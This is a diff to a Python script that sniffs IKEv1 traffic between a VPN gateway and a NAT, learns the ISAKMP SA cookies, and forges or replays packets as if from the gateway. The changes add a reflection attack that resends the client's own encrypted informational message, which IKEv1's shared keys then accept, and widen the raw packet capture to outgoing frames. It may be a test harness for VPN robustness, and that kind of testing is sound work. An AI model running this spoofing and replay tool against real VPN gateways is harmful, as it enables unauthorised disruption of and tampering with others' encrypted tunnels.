@@ -7,7 +7,8 @@
 #
 # Sniffs IFACE (AF_PACKET) for IKE on UDP 4500 between the gateway and the
 # NAT to learn the ISAKMP SA's cookies and to record one encrypted
-# informational the gateway sent (a DELETE after its rekey). Then sends, as
+# informational (the gateway's, else one of the client's own, which is a
+# reflection attack on IKEv1's shared keys). Then sends, as
 # if from the gateway: plaintext notifications carrying the cookies
 # (NO_PROPOSAL_CHOSEN, INVALID_PAYLOAD_TYPE, AUTHENTICATION_FAILED), a
 # plaintext Main Mode message with them (a late MM2), an encrypted-looking
@@ -20,6 +21,7 @@ import sys
 import time
 
 ETH_P_IP = 0x0800
+ETH_P_ALL = 0x0003  # a packet socket of one protocol sees no outgoing frames
 
 
 def parse(frame):
@@ -39,13 +41,13 @@ def parse(frame):
 
 
 def sniff(iface, gw, seconds):
-    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
     s.bind((iface, 0))
     s.settimeout(0.5)
     cookies = None
     info = None
-    end = time.time() + seconds
-    while time.time() < end and (cookies is None or info is None):
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
         try:
             frame = s.recv(65535)
         except socket.timeout:
@@ -57,8 +59,13 @@ def sniff(iface, gw, seconds):
         icky, rcky, _nxt, _ver, exch, flags = struct.unpack("!8s8sBBBB", msg[:20])
         if rcky != b"\0" * 8:
             cookies = (icky, rcky)
-        if src == gw and exch == 5 and flags & 1:
+        # An encrypted informational: the gateway's (then stop), else the
+        # first of the client's own (IKEv1 uses the same keys both ways:
+        # sent back, it verifies).
+        if exch == 5 and flags & 1 and (info is None or src == gw):
             info = msg
+            if src == gw:
+                break
     s.close()
     return cookies, info
 
@@ -86,6 +93,8 @@ def send(raw, src, dst, msg):
 def main():
     iface, gw, nat, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
     cookies, info = sniff(iface, gw, seconds)
+    print("sniffed: cookies %s, informational %s" % ("yes" if cookies else "no",
+                                                     "yes" if info else "no"), flush=True)
     if cookies is None:
         print("forged=0 replayed=0 (no IKE seen)")
         return 1
